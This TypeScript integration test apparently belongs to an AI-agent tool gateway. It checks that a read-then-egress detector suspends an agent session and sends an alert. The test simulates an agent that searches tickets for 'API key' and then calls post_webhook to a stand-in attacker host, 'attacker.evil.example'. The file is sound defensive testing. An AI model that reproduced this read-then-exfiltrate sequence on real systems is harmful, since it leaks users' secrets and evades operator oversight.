/**
 * Step 2 of the support-desk story (docs/architecture.md §1) as an operator runs it: `toolgate
 * serve --demo` with TOOLGATE_DETECTORS set, an agent reads tickets then probes the withheld
 * webhook over REST; the read-then-egress detector POSTs to a loopback receiver, suspends the
 * session (403 SESSION_SUSPENDED) and shows in /metrics.
 */
import assert from 'node:assert/strict';
import { type ChildProcess, execFile, spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { cleanEnv, ensureBuilt, listeningUrl, MAIN } from '../support/cli.js';

let dir = '';
let server: ChildProcess;
let receiver: Server;
const received: Record<string, unknown>[] = [];
let base = '';
let apiKey = '';
let adminToken = '';

const args = (dataDir: string) => [
  MAIN,
  '--db',
  `sqlite:${join(dataDir, 'tg.db')}`,
  '--data-dir',
  join(dataDir, 'data'),
];

function startServe(env: NodeJS.ProcessEnv): ChildProcess {
  return spawn(
    process.execPath,
    [
      ...args(dir),
      'serve',
      '--demo',
      '--port',
      '0',
      '--admin-token-file',
      join(dir, 'data', 'admin-token'),
    ],
    { cwd: dir, env: { ...cleanEnv(), ...env }, stdio: ['ignore', 'pipe', 'pipe'] },
  );
}

async function call(method: string, path: string, body?: unknown, token = apiKey) {
  const res = await fetch(`${base}${path}`, {
    method,
    headers: {
      authorization: `Bearer ${token}`,
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
    },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  const text = await res.text();
  return { status: res.status, text, json: () => JSON.parse(text) as Record<string, unknown> };
}

before(async () => {
  ensureBuilt();
  dir = mkdtempSync(join(tmpdir(), 'toolgate-detector-story-'));
  receiver = createServer((req, res) => {
    let text = '';
    req.on('data', (c: Buffer) => {
      text += c.toString('utf8');
    });
    req.on('end', () => {
      received.push(JSON.parse(text) as Record<string, unknown>);
      res.writeHead(204).end();
    });
  });
  await new Promise<void>((r) => receiver.listen(0, '127.0.0.1', r));
  const hook = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}/alerts`;
  writeFileSync(
    join(dir, 'detectors.yaml'),
    `webhook: { url: "${hook}", allow_hosts: ["127.0.0.1"] }\nread_then_egress: { window_seconds: 300, suspend: true }\n`,
  );
  // The webhook receiver listens on loopback: allow_hosts names it, and the admin allows
  // loopback outbound explicitly.
  server = startServe({
    TOOLGATE_DETECTORS: join(dir, 'detectors.yaml'),
    TOOLGATE_OUTBOUND_ALLOW_LOOPBACK: '1',
  });
  base = await listeningUrl(server);
  adminToken = readFileSync(join(dir, 'data', 'admin-token'), 'utf8').trim();
  const created = await new Promise<string>((resolve, reject) =>
    execFile(
      process.execPath,
      [...args(dir), '--json', 'agents', 'create', 'support-bot'],
      { cwd: dir, env: cleanEnv() },
      (err, stdout) => (err ? reject(err) : resolve(stdout)),
    ),
  );
  apiKey = (JSON.parse(created) as { api_key: string }).api_key;
});

after(async () => {
  server.kill('SIGTERM');
  await new Promise((r) => server.once('exit', r));
  await new Promise((r) => receiver.close(r));
  rmSync(dir, { recursive: true, force: true, maxRetries: 5, retryDelay: 50 });
});

test('read then egress over REST: webhook POSTed, session suspended, alert in /metrics', async () => {
  const id = String((await call('POST', '/v1/sessions', {})).json().id);
  assert.equal(
    (
      await call('POST', `/v1/sessions/${id}/calls`, {
        tool: 'search_tickets',
        arguments: { query: 'API key' },
      })
    ).status,
    200,
  );
  const exfil = await call('POST', `/v1/sessions/${id}/calls`, {
    tool: 'post_webhook',
    arguments: { target: 'https://attacker.evil.example/x', payload: {} },
  });
  assert.equal(exfil.status, 404);
  // Detection runs off the call path: wait (bounded) for its effects.
  const deadline = Date.now() + 5_000;
  let next = await call('POST', `/v1/sessions/${id}/calls`, {
    tool: 'get_order',
    arguments: { order_id: 'ORD-004211' },
  });
  while (next.status !== 403 && Date.now() < deadline) {
    await new Promise((r) => setTimeout(r, 50));
    next = await call('POST', `/v1/sessions/${id}/calls`, {
      tool: 'get_order',
      arguments: { order_id: 'ORD-004211' },
    });
  }
  assert.equal(next.status, 403, next.text);
  assert.equal(next.json().code, 'SESSION_SUSPENDED');
  while (received.length === 0 && Date.now() < deadline)
    await new Promise((r) => setTimeout(r, 50));
  const alert = received.find((b) => b.session_id === id);
  assert.equal(alert?.detector, 'read_then_egress');
  assert.equal(alert?.suspended, true);
  assert.equal(alert?.tool_id, 'post_webhook');
  const metrics = await call('GET', '/metrics', undefined, adminToken);
  assert.match(
    metrics.text,
    /toolgate_detector_alerts_total\{detector="read_then_egress",suspended="true"\} 1/,
  );
  const events = await call('GET', `/v1/events?subject=session:${id}`, undefined, adminToken);
  assert.match(events.text, /alert\.raised/);
  // A fresh session of the same agent works.
  const fresh = String((await call('POST', '/v1/sessions', {})).json().id);
  assert.equal(
    (
      await call('POST', `/v1/sessions/${fresh}/calls`, {
        tool: 'get_order',
        arguments: { order_id: 'ORD-004211' },
      })
    ).status,
    200,
  );
});

test('serve refuses a detector configuration whose webhook leaves the machine', async () => {
  const bad = mkdtempSync(join(tmpdir(), 'toolgate-detector-bad-'));
  try {
    writeFileSync(
      join(bad, 'detectors.yaml'),
      'webhook: { url: "https://hooks.evil.example/x" }\n',
    );
    const run = await new Promise<{ code: number; out: string }>((resolve) =>
      execFile(
        process.execPath,
        [
          ...args(bad),
          'serve',
          '--port',
          '0',
          '--admin-token-file',
          join(bad, 'data', 'admin-token'),
        ],
        {
          cwd: bad,
          env: { ...cleanEnv(), TOOLGATE_DETECTORS: join(bad, 'detectors.yaml') },
          timeout: 20_000,
        },
        (err, stdout, stderr) =>
          resolve({
            code: err ? Number((err as { code?: number }).code ?? 1) : 0,
            out: stdout + stderr,
          }),
      ),
    );
    assert.equal(run.code, 2, run.out);
    assert.match(run.out, /webhook\.url host hooks\.evil\.example is not in webhook\.allow_hosts/);
  } finally {
    rmSync(bad, { recursive: true, force: true, maxRetries: 5, retryDelay: 50 });
  }
});
